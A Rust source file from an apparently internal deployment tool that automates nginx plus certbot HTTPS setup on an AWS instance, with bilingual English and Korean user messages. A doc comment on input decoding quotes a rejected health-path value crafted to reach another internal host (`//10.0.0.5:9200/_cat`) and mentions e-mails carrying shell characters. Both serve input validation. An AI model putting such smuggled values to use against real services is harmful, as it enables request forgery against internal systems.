//! The free path (Nginx + Certbot on the instance), step by step:
//!
//! 1. open ports 80 (Let's Encrypt's HTTP-01 check and the redirect) and 443 on the instance's
//!    security group, idempotently, and point out ports open to the whole internet that should
//!    not be (SSH, databases, the app port itself);
//! 2. with the project's own domain, UPSERT the API name's A record to the instance's public
//!    IP (warning when it is not an Elastic IP); a nip.io / sslip.io name needs nothing;
//! 3. wait until public DNS answers the name with that IP (Let's Encrypt looks it up);
//! 4. install nginx + the site + certbot: through SSM Run Command when the instance is managed
//!    (output streamed into the timeline), otherwise the team runs the script and presses
//!    "I ran it" (a re-check now); either way the step ends only when HTTPS answers for the name;
//! 5. verify from outside with the HTTPS doctor: the name resolves to the instance, TLS is valid
//!    for the name with a complete chain, port 80 redirects to HTTPS, the proxy reaches the
//!    app's health path.
//!
//! Start a run with kind [`RUN_KIND`], the steps in [`STEPS`] and a [`NginxInput`].

use super::port_error;
use crate::faults;
use crate::jobs::{StepCtx, StepError, StepHandler, StepOutcome};
use crate::ports::{
    CommandState, CommandStatus, DnsZones, Firewall, HttpsProbe, IngressRule, Instances, PublicDns, RecordSet,
    RunCommand,
};
use async_trait::async_trait;
use lockstep_doctor::{parse_url, Target};
use lockstep_domain::contact::Email;
use lockstep_domain::doctor::{Finding, Report, Verdict};
use lockstep_domain::freepath::site_for;
use lockstep_domain::nginx::{install_script, Os};
use lockstep_domain::RunKind;
use lockstep_domain::{msg, DomainName, HealthPath, Message, Region, StepDetail, StepKind, UserError};
use serde::{Deserialize, Serialize};
use serde_json::json;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

pub const RUN_KIND: RunKind = RunKind::InstanceHttps;

pub const STEPS: [StepKind; 5] = [
    StepKind::NginxOpenPorts,
    StepKind::NginxDnsRecord,
    StepKind::NginxAwaitResolve,
    StepKind::NginxInstall,
    StepKind::NginxVerify,
];

/// What a free-path run acts on, fixed when it starts (from the project, its name plan and the
/// team's choices). The e-mail and the health path are typed: the first goes into the script the
/// instance runs as root, the second into a request lockstep makes; both are stored as the
/// plain strings they always were (see [`decode_input`] for old values that no longer parse).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct NginxInput {
    pub region: Region,
    /// None when the project names the instance by its IP: lockstep cannot see its security
    /// groups nor reach it through SSM (the team opens the ports and runs the script).
    pub instance_id: Option<String>,
    pub public_ip: Ipv4Addr,
    pub app_port: u16,
    pub health_path: HealthPath,
    pub api: DomainName,
    /// The hosted zone of the project's own domain; None for a nip.io / sslip.io name.
    pub zone_id: Option<String>,
    pub os: Os,
    pub staging: bool,
    pub email: Email,
    /// Where the outside checks connect (80/443; a lab serves elsewhere).
    pub http_port: u16,
    pub https_port: u16,
}

impl NginxInput {
    /// The script the instance runs (the same text the page shows); refused for a name nginx
    /// and certbot cannot serve.
    pub fn script(&self) -> Result<String, StepError> {
        let site = site_for(&self.api, self.app_port).map_err(|m| {
            StepError::Fatal(UserError {
                ko: lockstep_domain::ko(
                    format!("{}에 대한 nginx 사이트를 만들 수 없습니다.", self.api),
                    m.ko,
                    "프로젝트의 이름 설정에서 API 이름을 바꾼 뒤 무료 경로를 다시 시작하세요.",
                ),
                what: format!("lockstep cannot write the nginx site for {}.", self.api),
                why: m.en,
                fix: "Change the API name in the project's names, then start the free path again.".into(),
            })
        })?;
        Ok(install_script(self.os, &site, &self.email, self.staging))
    }

    fn target(&self, expect: Vec<String>) -> Result<Target, StepError> {
        let port = if self.https_port == 443 { String::new() } else { format!(":{}", self.https_port) };
        let url = parse_url(&format!("https://{}{port}/", self.api))
            .map_err(|e| StepError::Store(format!("free-path target: {e}")))?;
        let mut t = Target::new(url);
        t.http_port = self.http_port;
        t.https_port = self.https_port;
        t.health_path = Some(self.health_path.to_string());
        t.app_port = Some(self.app_port);
        t.issuers = vec!["letsencrypt.org".into()];
        t.expect = expect;
        Ok(t)
    }
}

/// What the free-path steps talk to.
pub struct NginxDeps {
    pub firewall: Arc<dyn Firewall>,
    pub zones: Arc<dyn DnsZones>,
    pub public_dns: Arc<dyn PublicDns>,
    pub instances: Arc<dyn Instances>,
    pub commands: Arc<dyn RunCommand>,
    pub probe: Arc<dyn HttpsProbe>,
    /// Interval between checks while waiting on DNS or the instance.
    pub poll: Duration,
    /// Public address -> where it is really served (a lab on loopback plays the instance); empty
    /// on real AWS.
    pub address_map: Vec<(Ipv4Addr, Ipv4Addr)>,
}

impl NginxDeps {
    /// The addresses that count as "the instance" for a public IP.
    fn instance_addresses(&self, ip: Ipv4Addr) -> Vec<Ipv4Addr> {
        let mut v = vec![ip];
        v.extend(self.address_map.iter().filter(|(p, _)| *p == ip).map(|(_, l)| *l));
        v
    }
}

fn input(ctx: &StepCtx) -> Result<NginxInput, StepError> {
    decode_input(ctx.input())
}

/// The two stored fields that were plain strings before they were typed.
#[derive(Deserialize)]
struct StoredStrings {
    #[serde(default)]
    email: Option<String>,
    #[serde(default)]
    health_path: Option<String>,
}

/// The run's input. A run started before the e-mail and the health path were typed may hold a
/// value that no longer parses (an e-mail with shell characters, a path such as
/// `//10.0.0.5:9200/_cat` that reaches another host): such a run stops here with the field's own
/// message, and nothing is sent to the instance. Any other decode error is a bug in lockstep.
pub fn decode_input(v: &serde_json::Value) -> Result<NginxInput, StepError> {
    let err = match serde_json::from_value::<NginxInput>(v.clone()) {
        Ok(i) => return Ok(i),
        Err(e) => e,
    };
    let stored = serde_json::from_value::<StoredStrings>(v.clone()).ok();
    let refused = stored.and_then(|s| {
        let email = s.email.and_then(|e| Email::parse(&e).err()).map(|m| (m, "e-mail address", "이메일 주소"));
        email.or_else(|| {
            s.health_path.and_then(|p| HealthPath::parse(&p).err()).map(|m| (m, "health path", "상태 확인 경로"))
        })
    });
    match refused {
        Some((m, what, what_ko)) => Err(StepError::Fatal(UserError {
            ko: lockstep_domain::ko(
                format!(
                    "이 실행에 저장된 {what_ko}를 더 이상 사용할 수 없어서, 인스턴스에는 아무것도 보내지 않았습니다."
                ),
                m.ko,
                format!("프로젝트(또는 무료 경로 양식)에서 {what_ko}를 고친 뒤 무료 경로를 다시 시작하세요."),
            ),
            what: format!(
                "The {what} stored with this run is no longer accepted, so nothing was sent to the instance."
            ),
            why: m.en,
            fix: format!("Correct the {what} in the project (or the free-path form), then start the free path again."),
        })),
        None => {
            tracing::error!(error = %err, "free-path run input does not decode");
            Err(StepError::Fatal(UserError {
            ko: lockstep_domain::ko(
                "lockstep이 이 실행의 설정을 읽을 수 없습니다.",
                "저장된 입력이 이 버전의 lockstep이 기대하는 형식과 다릅니다(lockstep의 버그입니다).",
                "무료 경로를 다시 시작하세요. 계속되면 서버 로그와 함께 lockstep 관리자에게 알려 주세요.",
            ),
            what: "lockstep cannot read this run's settings.".into(),
            why: "The stored input is not in the form this version of lockstep expects (a bug in lockstep).".into(),
            fix: "Start the free path again; if it happens again, tell the lockstep admin (the server log has the detail).".into(),
        }))
        }
    }
}

/// Ports that must not be open to 0.0.0.0/0, with what listens there.
const RISKY: [(u16, &str); 8] = [
    (22, "SSH"),
    (3306, "MySQL / MariaDB"),
    (5432, "PostgreSQL"),
    (27017, "MongoDB"),
    (6379, "Redis"),
    (9200, "Elasticsearch"),
    (1433, "SQL Server"),
    (3389, "Remote Desktop"),
];

/// World-open ports that invite trouble, in plain words (one line each, English and Korean).
pub fn risks(rules: &[IngressRule], app_port: Option<u16>) -> Vec<Message> {
    let mut out = Vec::new();
    for r in rules.iter().filter(|r| r.world_open()) {
        let group = &r.group_id;
        if r.protocol == "-1" {
            out.push(msg(
                format!("{group} allows ALL traffic from anywhere: allow only 80 and 443 (and SSH from your own IP)."),
                format!(
                    "{group}이(가) 어디서든 오는 모든 트래픽을 허용합니다. 80과 443만 허용하세요(SSH는 내 IP에서만)."
                ),
            ));
            continue;
        }
        for (port, what) in RISKY {
            if r.covers(port) {
                out.push(msg(
                    format!(
                        "{group}: port {port} ({what}) is open to the whole internet. Bots try passwords on it within minutes: allow it only from your own IP (\"My IP\" in the console) or use Session Manager."
                    ),
                    format!(
                        "{group}: 포트 {port}({what})이(가) 인터넷 전체에 열려 있습니다. 봇이 몇 분 안에 비밀번호를 시도합니다. 내 IP에서만 허용하거나(콘솔의 \"내 IP\") Session Manager를 사용하세요."
                    ),
                ));
            }
        }
        if let Some(p) = app_port.filter(|p| *p != 80 && *p != 443 && r.covers(*p)) {
            out.push(msg(
                format!(
                    "{group}: the app port {p} is open to the internet, so visitors can bypass nginx (and HTTPS). Remove that rule once nginx is in front."
                ),
                format!(
                    "{group}: 앱 포트 {p}이(가) 인터넷에 열려 있어서, 방문자가 nginx(그리고 HTTPS)를 거치지 않고 접속할 수 있습니다. nginx를 앞에 둔 뒤에는 그 규칙을 삭제하세요."
                ),
            ));
        }
    }
    out.sort_by(|a, b| a.en.cmp(&b.en));
    out.dedup();
    out
}

pub struct OpenPorts(pub Arc<NginxDeps>);
pub struct DnsRecord(pub Arc<NginxDeps>);
pub struct AwaitResolve(pub Arc<NginxDeps>);
pub struct Install(pub Arc<NginxDeps>);
pub struct Verify(pub Arc<NginxDeps>);

#[async_trait]
impl StepHandler for OpenPorts {
    async fn run(&self, ctx: &StepCtx) -> Result<StepOutcome, StepError> {
        let inp = input(ctx)?;
        let Some(instance_id) = &inp.instance_id else {
            return Ok(StepOutcome::Done {
                output: json!({ "group": null, "opened": [], "risks": [] }),
                note: Some(msg(
                    format!(
                        "The project names the instance by its IP ({}), so lockstep cannot see its security group. In the EC2 console, allow inbound TCP 80 and 443 from 0.0.0.0/0 on it; the last step checks both from outside.",
                        inp.public_ip
                    ),
                    format!(
                        "프로젝트가 인스턴스를 IP({})로 지정해서 lockstep이 보안 그룹을 볼 수 없습니다. EC2 콘솔에서 그 보안 그룹에 0.0.0.0/0에서 오는 인바운드 TCP 80과 443을 허용하세요. 마지막 단계에서 외부에서 둘 다 확인합니다.",
                        inp.public_ip
                    ),
                )),
            });
        };
        let fw = &self.0.firewall;
        let (groups, rules) = fw
            .instance_rules(&inp.region, instance_id)
            .await
            .map_err(|e| port_error(&msg("reading the instance's security groups", "인스턴스의 보안 그룹 읽기"), e))?;
        let Some(group) = groups.first() else {
            return Err(StepError::Fatal(UserError {
                ko: lockstep_domain::ko(
                    format!("인스턴스 {instance_id}에 lockstep이 변경할 수 있는 보안 그룹이 없습니다."),
                    "인바운드 포트는 인스턴스의 보안 그룹에서 엽니다.",
                    "EC2 콘솔에서 인스턴스에 보안 그룹을 연결한 뒤 \"다시 시도\"를 누르세요.",
                ),
                what: format!("The instance {instance_id} has no security group lockstep can change."),
                why: "Inbound ports are opened on a security group of the instance.".into(),
                fix: "Attach a security group to the instance in the EC2 console and press Retry.".into(),
            }));
        };
        let mut opened = Vec::new();
        for port in [80u16, 443] {
            let already = rules.iter().any(|r| r.covers(port) && r.cidrs.iter().any(|c| c == "0.0.0.0/0"));
            if already {
                continue;
            }
            if fw.open_to_world(&inp.region, group, port).await.map_err(|e| {
                port_error(&msg(format!("opening port {port} on {group}"), format!("{group}에서 포트 {port} 열기")), e)
            })? {
                opened.push(port);
            }
        }
        let risks = risks(&rules, Some(inp.app_port));
        let also = Message::join(&risks, " ");
        let opened_ko = opened.iter().map(|p| p.to_string()).collect::<Vec<_>>().join(", ");
        let note = match (opened.is_empty(), risks.is_empty()) {
            (true, true) => msg(
                format!("Ports 80 and 443 were already open on {group}."),
                format!("{group}에서 포트 80과 443이 이미 열려 있었습니다."),
            ),
            (false, true) => msg(
                format!("Opened {} on {group} to the internet.", list(&opened)),
                format!("{group}에서 포트 {opened_ko}을 인터넷에 열었습니다."),
            ),
            (true, false) => msg(
                format!("Ports 80 and 443 were already open on {group}. Also: {}", also.en),
                format!("{group}에서 포트 80과 443이 이미 열려 있었습니다. 또한 확인할 점: {}", also.ko),
            ),
            (false, false) => msg(
                format!("Opened {} on {group}. Also: {}", list(&opened), also.en),
                format!("{group}에서 포트 {opened_ko}을 열었습니다. 또한 확인할 점: {}", also.ko),
            ),
        };
        // The output keeps the English (as before).
        let risks: Vec<&str> = risks.iter().map(|r| r.en.as_str()).collect();
        let created: Vec<serde_json::Value> = opened
            .iter()
            .map(|p| json!({ "kind": "sg_rule", "id": format!("{group}:tcp:{p}:from:world"), "region": inp.region }))
            .collect();
        Ok(StepOutcome::Done {
            output: json!({ "group": group, "opened": opened, "risks": risks, "created": created }),
            note: Some(note),
        })
    }
}

fn list(ports: &[u16]) -> String {
    ports.iter().map(|p| p.to_string()).collect::<Vec<_>>().join(" and ")
}

/// The warning for an address that is not an Elastic IP.
pub fn not_elastic_warning(ip: Ipv4Addr) -> Message {
    msg(
        format!(
            "{ip} is not an Elastic IP: AWS gives the instance a new address when it is stopped and started, and then this name points at someone else's server (and certbot renewals fail). In the EC2 console: Elastic IPs > Allocate, then Associate it with the instance, and run the free path again (it updates the record)."
        ),
        format!(
            "{ip}은(는) 탄력적 IP(Elastic IP)가 아닙니다. 인스턴스를 중지했다가 시작하면 AWS가 새 주소를 주고, 그러면 이 이름이 다른 사람의 서버를 가리키게 됩니다(certbot 갱신도 실패합니다). EC2 콘솔에서 탄력적 IP > 할당을 누르고 인스턴스에 연결한 뒤, 무료 경로를 다시 실행하세요(레코드를 갱신합니다)."
        ),
    )
}

#[async_trait]
impl StepHandler for DnsRecord {
    async fn run(&self, ctx: &StepCtx) -> Result<StepOutcome, StepError> {
        let inp = input(ctx)?;
        let Some(zone_id) = &inp.zone_id else {
            return Ok(StepOutcome::Done {
                output: json!({ "record": null }),
                note: Some(msg(
                    format!(
                        "{} carries the IP in its name: nip.io / sslip.io already answer {} for it. Nothing to add.",
                        inp.api, inp.public_ip
                    ),
                    format!(
                        "{}은(는) 이름에 IP가 들어 있습니다. nip.io / sslip.io가 이미 {}(으)로 응답하므로 추가할 것이 없습니다.",
                        inp.api, inp.public_ip
                    ),
                )),
            });
        };
        // A lookup failure is not a reason to stop: the warning is advice, the record is the job.
        let elastic = match self.0.instances.is_elastic_ip(&inp.region, inp.public_ip).await {
            Ok(e) => Some(e),
            Err(e) => {
                tracing::warn!(error = %e, "could not read the account's Elastic IPs");
                None
            }
        };
        let record = RecordSet::plain(inp.api.to_string(), "A", 60, vec![inp.public_ip.to_string()]);
        let change = self.0.zones.upsert(zone_id, &[record]).await.map_err(|e| {
            port_error(&msg(format!("writing the A record for {}", inp.api), format!("{}의 A 레코드 쓰기", inp.api)), e)
        })?;
        let note = msg(
            format!("{} A {} (TTL 60 s) is in the hosted zone.", inp.api, inp.public_ip),
            format!("호스팅 영역에 {} A {} 레코드(TTL 60초)가 있습니다.", inp.api, inp.public_ip),
        );
        let note = match elastic {
            Some(false) => {
                let warning = not_elastic_warning(inp.public_ip);
                note.then(&msg(format!("Warning: {}", warning.en), format!("경고: {}", warning.ko)))
            }
            None => note.then(&msg(
                "(lockstep could not read your Elastic IPs: if the address is not one, it changes on stop/start.)",
                "(lockstep이 탄력적 IP 목록을 읽지 못했습니다. 이 주소가 탄력적 IP가 아니라면 중지/시작할 때 바뀝니다.)",
            )),
            Some(true) => note.then(&msg(
                "It is an Elastic IP: it stays when the instance restarts.",
                "탄력적 IP이므로 인스턴스를 다시 시작해도 그대로 유지됩니다.",
            )),
        };
        Ok(StepOutcome::Done {
            output: json!({
                "record": inp.api,
                "ip": inp.public_ip,
                "change": change,
                "elastic": elastic,
                "zone_id": zone_id,
                "created": [{ "kind": "route53_record", "id": format!("{zone_id}:{}:A", inp.api), "region": "global" }],
            }),
            note: Some(note),
        })
    }
}

/// After this long the wait stops with an explanation instead of polling forever.
const RESOLVE_PATIENCE_MS: i64 = 30 * 60 * 1000;

#[async_trait]
impl StepHandler for AwaitResolve {
    async fn run(&self, ctx: &StepCtx) -> Result<StepOutcome, StepError> {
        let inp = input(ctx)?;
        if inp.zone_id.is_none() {
            return Ok(StepOutcome::Done {
                output: json!({ "addresses": [inp.public_ip] }),
                note: Some(msg(
                    format!("{} resolves to {} by construction (the IP is in the name).", inp.api, inp.public_ip),
                    format!("{}은(는) 이름에 IP가 들어 있으므로 당연히 {}(으)로 조회됩니다.", inp.api, inp.public_ip),
                )),
            });
        }
        let want = self.0.instance_addresses(inp.public_ip);
        let got = match self.0.public_dns.a(&inp.api).await {
            Ok(v) => v,
            Err(e) => {
                return Ok(StepOutcome::Poll {
                    after: self.0.poll,
                    note: msg(
                        format!("Public DNS did not answer for {} ({e}); asking again.", inp.api),
                        format!("공개 DNS가 {}에 대해 응답하지 않았습니다({e}). 다시 물어봅니다.", inp.api),
                    ),
                })
            }
        };
        if got.iter().any(|a| want.contains(a)) {
            return Ok(StepOutcome::Done {
                output: json!({ "addresses": got }),
                note: Some(msg(
                    format!("Public DNS answers {} for {}.", join_ips(&got), inp.api),
                    format!("공개 DNS가 {}에 대해 {}(으)로 응답합니다.", inp.api, join_ips(&got)),
                )),
            });
        }
        let waited = ctx.now_ms() - ctx.started_at();
        if waited > RESOLVE_PATIENCE_MS {
            return Err(StepError::Fatal(UserError {
                ko: lockstep_domain::ko(
                    format!("{}분이 지났지만 {}의 DNS 조회 결과가 아직 {}이(가) 아닙니다.", waited / 60_000, inp.api, inp.public_ip),
                    if got.is_empty() {
                        "공개 DNS에 이 이름의 A 레코드가 없습니다. lockstep이 레코드를 쓴 호스팅 영역이 인터넷에서 실제로 조회하는 영역이 아닙니다(도메인의 네임서버가 다른 곳을 가리키고 있습니다).".to_string()
                    } else {
                        format!("공개 DNS가 {}(으)로 응답합니다. 다른 레코드(또는 도메인이 위임된 다른 영역)가 우선하고 있습니다.", join_ips(&got))
                    },
                    "도메인 단계의 위임 확인(1단계)을 실행해 도메인 등록 업체에서 네임서버를 고치거나, 다른 레코드를 삭제하세요. 그런 다음 \"다시 시도\"를 누르세요.",
                ),
                what: format!("After {} minutes, {} still does not resolve to {}.", waited / 60_000, inp.api, inp.public_ip),
                why: if got.is_empty() {
                    "Public DNS has no A record for the name: the hosted zone lockstep wrote to is not the one the internet asks (the domain's name servers point elsewhere).".into()
                } else {
                    format!("Public DNS answers {}: another record (or another zone the domain is delegated to) wins.", join_ips(&got))
                },
                fix: "Run the domain step's delegation check (step 1) and fix the name servers at the registrar, or remove the other record; then press Retry.".into(),
            }));
        }
        let note = if got.is_empty() {
            msg(
                format!("Public DNS has no A record for {} yet; Route 53 usually publishes within a minute.", inp.api),
                format!("공개 DNS에 아직 {}의 A 레코드가 없습니다. Route 53은 보통 1분 안에 게시합니다.", inp.api),
            )
        } else {
            msg(
                format!(
                    "{} still resolves to {}, not {}: resolvers keep an old answer until its TTL runs out.",
                    inp.api,
                    join_ips(&got),
                    inp.public_ip
                ),
                format!(
                    "{}이(가) 아직 {}이(가) 아니라 {}(으)로 조회됩니다. 리졸버는 TTL이 끝날 때까지 예전 응답을 유지합니다.",
                    inp.api,
                    inp.public_ip,
                    join_ips(&got)
                ),
            )
        };
        Ok(StepOutcome::Poll { after: self.0.poll, note })
    }
}

fn join_ips(v: &[Ipv4Addr]) -> String {
    v.iter().map(|a| a.to_string()).collect::<Vec<_>>().join(", ")
}

/// How long the script may run on the instance (package installs on a t2.micro are slow).
pub const SCRIPT_TIMEOUT_SECS: u32 = 900;

/// The end of a stream, at most `n` characters, cut at a line start.
fn tail(s: &str, n: usize) -> String {
    if s.len() <= n {
        return s.to_string();
    }
    let mut start = s.len() - n;
    while !s.is_char_boundary(start) {
        start += 1;
    }
    let cut = &s[start..];
    cut.find('\n').map(|i| &cut[i + 1..]).unwrap_or(cut).to_string()
}

/// The explanation for a script that did not finish well on the instance.
pub fn script_failure(state: &CommandState, inp: &NginxInput) -> UserError {
    match state.status {
        CommandStatus::Undeliverable => UserError {
            ko: lockstep_domain::ko(
                format!("인스턴스의 SSM 에이전트가 스크립트를 받지 못했습니다({}).", state.detail),
                "인스턴스가 중지되어 있거나, SSM 에이전트가 실행 중이 아니거나, SSM 서비스로 가는 경로가 없습니다(퍼블릭 IP나 NAT가 없거나, 인스턴스 프로파일에서 AmazonSSMManagedInstanceCore가 빠졌습니다).",
                "인스턴스를 시작하고 Systems Manager > Fleet Manager에서 \"Online\" 상태인지 확인하세요. 또는 아래에 보이는 스크립트를 직접 실행한 뒤 \"실행했어요\"를 누르세요.",
            ),
            what: format!("The SSM agent on the instance never received the script ({}).", state.detail),
            why: "The instance is stopped, its SSM agent is not running, or it has no route to the SSM service (no public IP / NAT, or the instance profile lost AmazonSSMManagedInstanceCore).".into(),
            fix: "Start the instance and check it is \"Online\" in Systems Manager > Fleet Manager; or run the script yourself (shown below) and press \"I ran it\".".into(),
        },
        CommandStatus::TimedOut => UserError {
            ko: lockstep_domain::ko(
                format!("스크립트가 인스턴스에서 {}분 안에 끝나지 않았습니다.", SCRIPT_TIMEOUT_SECS / 60),
                "인스턴스가 패키지 미러에 접속하지 못하거나, 이전 apt/dnf 실행이 아직 잠금(lock)을 잡고 있으면 패키지 설치가 멈춥니다.",
                "인스턴스에 접속해(EC2 Instance Connect) 스크립트를 직접 실행하며 어디서 멈추는지 확인한 뒤 \"다시 시도\"를 누르세요.",
            ),
            what: format!("The script did not finish within {} minutes on the instance.", SCRIPT_TIMEOUT_SECS / 60),
            why: "Package installs hang when the instance cannot reach the package mirrors, or a previous apt/dnf run still holds the lock.".into(),
            fix: "Connect to the instance (EC2 Instance Connect), run the script by hand to see where it stops, then press Retry.".into(),
        },
        CommandStatus::Cancelled => UserError {
            ko: lockstep_domain::ko(
                "스크립트가 끝나기 전에 취소되었습니다.",
                "누군가 Systems Manager에서 명령을 취소했거나, 인스턴스가 중지되었습니다.",
                "\"다시 시도\"를 눌러 다시 실행하세요(두 번 실행해도 안전합니다).",
            ),
            what: "The script was cancelled before it finished.".into(),
            why: "Someone cancelled the command in Systems Manager, or the instance was stopped.".into(),
            fix: "Press Retry to run it again (it is safe to run twice).".into(),
        },
        _ => lockstep_domain::nginx_diagnose::explain_script_failure(
            &state.stdout,
            &state.stderr,
            state.exit_code.unwrap_or(-1),
            inp.app_port,
            inp.api.as_str(),
        ),
    }
}

#[async_trait]
impl StepHandler for Install {
    async fn run(&self, ctx: &StepCtx) -> Result<StepOutcome, StepError> {
        let inp = input(ctx)?;
        let Some(id) = inp.instance_id.clone() else { return self.manual(&inp).await };
        // One send per attempt the team asked for: a Retry after a failed script sends a new
        // one (generation g+1); a crash or a poll keeps following generation g.
        let mut g: u32 = 0;
        loop {
            let send_key = format!("ssm.send.{g}");
            match ctx.effect_result(&send_key).await? {
                Some(v) if ctx.effect_result(&format!("ssm.failed.{g}")).await?.is_some() => {
                    let _ = v;
                    g += 1;
                }
                Some(v) => {
                    let command_id = v["command_id"].as_str().unwrap_or_default().to_string();
                    return self.follow(ctx, &inp, g, &command_id, &id).await;
                }
                None => break,
            }
        }
        let managed = self.0.commands.is_managed(&inp.region, &id).await.unwrap_or_else(|e| {
            tracing::warn!(error = %e, "could not ask SSM whether the instance is managed");
            false
        });
        if !managed {
            return self.manual(&inp).await;
        }
        // SendCommand has no idempotency token: the comment carries ours, so a retry after a
        // crash finds the command instead of running the script twice.
        let send_key = format!("ssm.send.{g}");
        let (token, _) = ctx.effect_token(&send_key).await?;
        let comment = format!("lockstep nginx {}", &token[..24.min(token.len())]);
        faults::point("nginx.install.before_send").await;
        let found = self
            .0
            .commands
            .find_sent(&inp.region, &id, &comment)
            .await
            .map_err(|e| port_error(&msg("looking for the script sent earlier", "이전에 보낸 스크립트 찾기"), e))?;
        let command_id = match found {
            Some(c) => c,
            None => {
                self.0.commands.send(&inp.region, &id, &inp.script()?, SCRIPT_TIMEOUT_SECS, &comment).await.map_err(
                    |e| {
                        port_error(
                            &msg("sending the script through SSM Run Command", "SSM Run Command로 스크립트 보내기"),
                            e,
                        )
                    },
                )?
            }
        };
        faults::point("nginx.install.after_send").await;
        ctx.record_effect(&send_key, &json!({ "command_id": command_id })).await?;
        Ok(StepOutcome::Poll {
            after: self.0.poll.min(Duration::from_secs(3)),
            note: msg(
                format!("Sent the script to {id} through SSM Run Command ({command_id})."),
                format!("SSM Run Command로 {id}에 스크립트를 보냈습니다({command_id})."),
            ),
        })
    }
}

impl Install {
    async fn follow(
        &self,
        ctx: &StepCtx,
        inp: &NginxInput,
        generation: u32,
        command_id: &str,
        instance_id: &str,
    ) -> Result<StepOutcome, StepError> {
        let state = self.0.commands.state(&inp.region, command_id, instance_id).await.map_err(|e| {
            port_error(&msg("reading the script's progress from SSM", "SSM에서 스크립트 진행 상황 읽기"), e)
        })?;
        ctx.detail(&StepDetail::Command {
            command_id: command_id.to_string(),
            status: format!("{:?}", state.status),
            stdout: tail(&state.stdout, 6000),
            stderr: tail(&state.stderr, 3000),
            exit_code: state.exit_code,
        })
        .await?;
        match state.status {
            CommandStatus::Pending | CommandStatus::Running => {
                let last = state.stdout.lines().rev().find(|l| !l.trim().is_empty());
                let line = |none: &str| last.unwrap_or(none).chars().take(160).collect::<String>();
                Ok(StepOutcome::Poll {
                    after: self.0.poll.min(Duration::from_secs(3)),
                    note: msg(
                        format!("Running on {instance_id}: {}", line("starting")),
                        format!("{instance_id}에서 실행 중: {}", line("시작하는 중")),
                    ),
                })
            }
            CommandStatus::Success => Ok(StepOutcome::Done {
                output: json!({ "mode": "ssm", "command_id": command_id }),
                note: Some(msg(
                    format!(
                        "The script finished on {instance_id}: nginx is running and certbot installed the certificate."
                    ),
                    format!(
                        "{instance_id}에서 스크립트가 끝났습니다. nginx가 실행 중이고 certbot이 인증서를 설치했습니다."
                    ),
                )),
            }),
            _ => {
                // Effects are recorded against a token row: make it, then mark this send failed
                // so a Retry sends a new script instead of following this one again.
                let failed_key = format!("ssm.failed.{generation}");
                ctx.effect_token(&failed_key).await?;
                ctx.record_effect(&failed_key, &json!({ "status": format!("{:?}", state.status) })).await?;
                Err(StepError::Fatal(script_failure(&state, inp)))
            }
        }
    }

    /// The team runs the script; "I ran it" asks for a check now. Done when HTTPS answers for
    /// the name with a certificate that verifies.
    async fn manual(&self, inp: &NginxInput) -> Result<StepOutcome, StepError> {
        let report = self.0.probe.check(&inp.target(Vec::new())?).await;
        let tls = report.findings.iter().find(|f| f.check == "tls.certificate");
        if tls.is_some_and(|f| f.verdict == Verdict::Pass) {
            return Ok(StepOutcome::Done {
                output: json!({ "mode": "manual" }),
                note: Some(msg(
                    format!("HTTPS answers for {} with a valid certificate.", inp.api),
                    format!("{}에서 유효한 인증서로 HTTPS가 응답합니다.", inp.api),
                )),
            });
        }
        let problem = first_problem(&report, &["dns.address", "tls.handshake", "tls.certificate"]);
        let seen = problem.map(|f| format!(" Last check: {}.", f.title)).unwrap_or_default();
        let seen_ko = problem.map(|f| format!(" 마지막 점검: {}.", f.said(true).0)).unwrap_or_default();
        // The page shows the script while this English note starts with "Waiting for you"
        // (app/src/freepath_ui.rs).
        Ok(StepOutcome::Poll {
            after: (self.0.poll * 30).min(Duration::from_secs(30)),
            note: msg(
                format!("Waiting for you: run the script below on the instance, then press \"I ran it\".{seen}"),
                format!(
                    "직접 해야 할 작업을 기다리는 중: 아래 스크립트를 인스턴스에서 실행한 뒤 \"실행했어요\"를 누르세요.{seen_ko}"
                ),
            ),
        })
    }
}

/// The first finding among `checks` that did not pass (fail before warn).
fn first_problem<'a>(report: &'a Report, checks: &[&str]) -> Option<&'a Finding> {
    let mut bad: Vec<&Finding> = report
        .findings
        .iter()
        .filter(|f| checks.contains(&f.check.as_str()) && matches!(f.verdict, Verdict::Fail | Verdict::Warn))
        .collect();
    bad.sort_by_key(|f| std::cmp::Reverse(f.verdict));
    bad.into_iter().next()
}

/// What the free path must prove from outside before it is done.
pub const REQUIRED: [&str; 5] = ["dns.address", "tls.handshake", "tls.certificate", "http.redirect", "http.health"];

#[async_trait]
impl StepHandler for Verify {
    async fn run(&self, ctx: &StepCtx) -> Result<StepOutcome, StepError> {
        let inp = input(ctx)?;
        let expect = self.0.instance_addresses(inp.public_ip).iter().map(|a| a.to_string()).collect();
        let report = self.0.probe.check(&inp.target(expect)?).await;
        let missing: Vec<&str> = REQUIRED
            .into_iter()
            .filter(|c| {
                !report.findings.iter().any(|f| f.check == *c && matches!(f.verdict, Verdict::Pass | Verdict::Warn))
            })
            .collect();
        let problem = first_problem(&report, &REQUIRED).filter(|f| f.verdict == Verdict::Fail).cloned();
        let summary = report.summary();
        let said = report.summary_said();
        ctx.detail(&StepDetail::Doctor { report }).await?;
        if let Some(f) = problem {
            return Err(StepError::Fatal(UserError {
                ko: {
                    let (title, why, fix) = f.said(true);
                    lockstep_domain::ko(
                        title,
                        why.map(str::to_string).unwrap_or_else(|| f.evidence.join("; ")),
                        format!(
                            "{} 그런 다음 \"다시 시도\"를 누르세요. lockstep이 외부에서 다시 확인합니다.",
                            fix.unwrap_or("아래 보고서에 나온 문제를 고치세요.")
                        ),
                    )
                },
                what: f.title.clone(),
                why: f.why.clone().unwrap_or_else(|| f.evidence.join("; ")),
                fix: format!(
                    "{} Then press Retry: lockstep checks again from outside.",
                    f.fix.clone().unwrap_or_else(|| "Fix what the report below names.".into())
                ),
            }));
        }
        if !missing.is_empty() {
            return Err(StepError::Fatal(UserError {
                ko: lockstep_domain::ko(
                    format!("외부 점검에서 {}을(를) 판단할 수 없었습니다.", missing.join(", ")),
                    "앞선 점검이 실패해서 이 항목들은 건너뛰었습니다(아래 보고서를 보세요).",
                    "보고서에서 처음 실패한 점검을 고친 뒤 \"다시 시도\"를 누르세요.",
                ),
                what: format!("The outside check could not judge {}.", missing.join(", ")),
                why: "An earlier check failed so these were skipped (see the report below).".into(),
                fix: "Fix the first failing check in the report, then press Retry.".into(),
            }));
        }
        Ok(StepOutcome::Done {
            output: json!({ "url": format!("https://{}", inp.api), "summary": summary }),
            note: Some(msg(
                format!("https://{} works: {}", inp.api, said.en),
